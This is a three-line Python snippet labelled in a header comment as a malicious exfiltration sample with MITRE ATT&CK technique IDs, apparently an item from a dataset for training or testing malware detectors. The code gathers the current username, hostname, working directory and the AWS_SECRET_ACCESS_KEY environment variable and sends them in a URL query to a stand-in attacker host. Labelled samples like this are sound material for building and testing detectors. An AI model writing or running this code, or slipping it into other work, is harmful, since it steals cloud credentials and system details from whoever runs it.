# label: malicious family=exfil techniques=T1033,T1041,T1082,T1552.001 lines=3-4
import getpass, os, socket, urllib.parse, urllib.request
q = urllib.parse.urlencode({"u": getpass.getuser(), "h": socket.gethostname(), "cwd": os.getcwd(), "k": os.environ.get("AWS_SECRET_ACCESS_KEY", "")})
urllib.request.urlopen("http://c8f2k1.oast.bad-host.example/?" + q, timeout=3)
